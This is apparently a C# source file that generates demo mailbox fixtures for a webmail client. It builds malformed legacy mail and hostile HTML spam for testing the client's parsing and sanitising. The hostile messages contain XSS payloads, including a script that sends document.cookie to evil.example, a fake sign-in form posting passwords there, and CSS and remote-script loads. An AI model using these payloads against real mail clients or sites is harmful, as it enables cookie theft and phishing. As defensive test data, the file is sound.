using System.Globalization;
using System.Text;

namespace Webmail.DemoMailbox;

/// <summary>Broken and hostile messages, written byte by byte: the mail that a mailbox of twenty years holds too.</summary>
internal sealed class DamagedMail(Calendar calendar)
{
    private const string Archive = "Archive";

    private static readonly Encoding Latin = Encoding.Latin1;

    public IEnumerable<DemoMessage> Messages()
    {
        yield return Raw(Archive, 33, Heading("Shift_JIS without a name", 33, "Content-Type: text/plain"), Japanese("shift_jis", "文字コードの指定がないメールです。読めますか？\r\n"));
        yield return Raw(Archive, 34, Heading("Latin-1 without a name", 34, "Content-Type: text/plain"), Latin.GetBytes("Früher schrieben wir ohne zu sagen, wie. Grüße aus Köln.\r\n"));
        yield return Raw(Archive, 35, [.. Latin.GetBytes("From: raw@oldmailer.example\r\nTo: mika@lumen.example\r\nSubject: "), .. Japanese("iso-2022-jp", "生のJISの件名"), .. "\r\nDate: "u8, .. Ascii(Date(35)), .. "\r\nMessage-ID: <raw-jis@oldmailer.example>\r\n\r\n"u8], Japanese("iso-2022-jp", "件名も本文も符号化していません。\r\n"));
        yield return Raw(Archive, 36, Heading("The end of this multipart is missing", 36, "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"edge\""), Ascii("--edge\r\nContent-Type: text/plain\r\n\r\nThe connection broke in the middle of the attachment.\r\n--edge\r\nContent-Type: application/pdf; name=half.pdf\r\nContent-Disposition: attachment; filename=half.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQKJeLjz9MK"));
        yield return Raw(Archive, 37, Heading("Says base64, is not", 37, "MIME-Version: 1.0\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64"), Ascii("This text was never encoded, whatever the header says!\r\n"));
        yield return Raw(Archive, 38, Heading("Says quoted-printable, is not quite", 38, "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable"), Ascii("The price is =80 100, see http://shop.example/?a=1&b=2 = end=\r\n"));
        yield return Raw(Archive, 39, Ascii("Message-ID: <empty@oldmailer.example>\r\n\r\n"), []);
        yield return Raw(Archive, 40, Ascii("Subject: Nobody sent this\r\nMessage-ID: <nofrom@oldmailer.example>\r\n\r\n"), Ascii("There is no From, no To and no Date.\r\n"));
        yield return Raw(Archive, 41, Ascii("From: clock@oldmailer.example\r\nTo: mika@lumen.example\r\nSubject: The date is garbage\r\nDate: Wednesdayish, 45 Foo 20267 99:99:99 +9999\r\nMessage-ID: <date@oldmailer.example>\r\n\r\n"), Ascii("The clock of the sender was never set.\r\n"));
        yield return Raw(Archive, 42, Heading("A header of 100 KB", 42, "X-Trace: " + string.Concat(Enumerable.Repeat("hop.relay.example;\r\n ", 5000)).TrimEnd()), Ascii("Every relay left its name.\r\n"));
        yield return Raw(Archive, 43, Ascii($"From: \"=?utf-8?Q?Broken_=E4=F6_name?=\" <names@@oldmailer..example>, ;\r\nTo: undisclosed-recipients:;\r\nSubject: =?utf-8?B?44GT44KT44Gr?= =?utf-8?B?44Gh44Gv?= =?x-unknown?Q?abc=XY?=\r\nDate: {Date(43)}\r\nMessage-ID: names@oldmailer.example\r\n\r\n"), Ascii("Addresses and encoded words that no standard allows.\r\n"));
        yield return Raw(Archive, 44, Heading("Charset that nobody knows", 44, "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=x-mac-klingon\r\nContent-Transfer-Encoding: 8bit"), Encoding.UTF8.GetBytes("Qapla’! こんにちは。\r\n"));
        yield return Raw(Archive, 45, Heading("File name in raw bytes", 45, "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b1"), [.. Ascii("--b1\r\nContent-Type: text/plain\r\n\r\nSee the sheet.\r\n--b1\r\nContent-Type: application/vnd.ms-excel; name=\""), .. Japanese("shift_jis", "見積書.xls"), .. Ascii("\"\r\nContent-Disposition: attachment; filename=\""), .. Japanese("shift_jis", "見積書.xls"), .. Ascii("\"\r\nContent-Transfer-Encoding: base64\r\n\r\n0M8R4KGxGuE=\r\n--b1--\r\n")]);
        yield return Raw(Archive, 46, Heading("Bare line feeds", 46, "Content-Type: text/plain"), Ascii("one\ntwo\nthree \u0007 bell\n"));
        foreach (var hostile in Hostile())
            yield return hostile;
    }

    private IEnumerable<DemoMessage> Hostile()
    {
        yield return Html("Spam", 1.2, "Your mailbox is full", "<script>document.title='owned';fetch('https://evil.example/'+document.cookie)</script><img src=x onerror=\"alert(1)\"><p>Your mailbox is full. <a href=\"javascript:alert(2)\">Verify now</a></p><form action=\"https://evil.example/login\"><input name=user><input name=password type=password><button>Sign in</button></form>");
        yield return Html("Spam", 2.3, "Invoice overdue!!!", "<link rel=stylesheet href=\"https://evil.example/a.css\"><style>@import url(https://evil.example/b.css); body{background:url(https://evil.example/c.png)} .x{position:fixed;inset:0;z-index:99999;background:#fff}</style><div class=x>Please sign in again</div><meta http-equiv=refresh content=\"0;url=https://evil.example/\">");
        yield return Html("Spam", 3.4, "You won a kiln", "<svg onload=alert(3)><foreignObject><iframe srcdoc=\"<script>parent.alert(4)</script>\"></iframe></foreignObject></svg><math><mtext><table><mglyph><style><img src=x onerror=alert(5)></style></mglyph></table></mtext></math><p>Congratulations, dear ceramist.</p>");
        yield return Html("Spam", 4.5, "Re: your order", "<base href=\"https://evil.example/\"><object data=a.swf></object><embed src=b.pdf><video src=https://evil.example/v.mp4 autoplay poster=https://evil.example/p.png></video><p style=\"font-size:0;background-image:image-set('https://evil.example/i.png' 1x)\">hidden</p><a href=\"https://bank.example.evil.example/\">https://bank.example/</a>");
        yield return Html(Archive, 47, "Only a script", "<script src=https://evil.example/x.js></script>");
        yield return Html(Archive, 48, "Nested beyond reason", string.Concat(Enumerable.Repeat("<div><p><font><b>", 2000)) + "deep");
    }

    private DemoMessage Html(string mailbox, double daysAgo, string subject, string html)
    {
        var heading = Heading(subject, daysAgo, "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8");
        var seen = mailbox == Archive;
        return new DemoMessage(mailbox, calendar.DaysAgo(daysAgo), [.. heading, .. Encoding.UTF8.GetBytes(html), .. "\r\n"u8], seen ? [DemoMessage.Seen] : []);
    }

    private DemoMessage Raw(string mailbox, double daysAgo, byte[] heading, byte[] body) =>
        new(mailbox, calendar.DaysAgo(daysAgo), [.. heading, .. body], [DemoMessage.Seen]);

    private byte[] Heading(string subject, double daysAgo, string more) => Ascii(
        $"From: Old Mailer <sender@oldmailer.example>\r\nTo: mika@lumen.example\r\nSubject: {subject}\r\nDate: {Date(daysAgo)}\r\n"
        + string.Create(CultureInfo.InvariantCulture, $"Message-ID: <damaged-{daysAgo}@oldmailer.example>\r\n{more}\r\n\r\n"));

    private string Date(double daysAgo) =>
        calendar.DaysAgo(daysAgo).ToUniversalTime().ToString("ddd, dd MMM yyyy HH:mm:ss '+0000'", CultureInfo.InvariantCulture);

    private static byte[] Japanese(string charset, string text) => Encoding.GetEncoding(charset).GetBytes(text);

    private static byte[] Ascii(string text) => Encoding.ASCII.GetBytes(text);
}
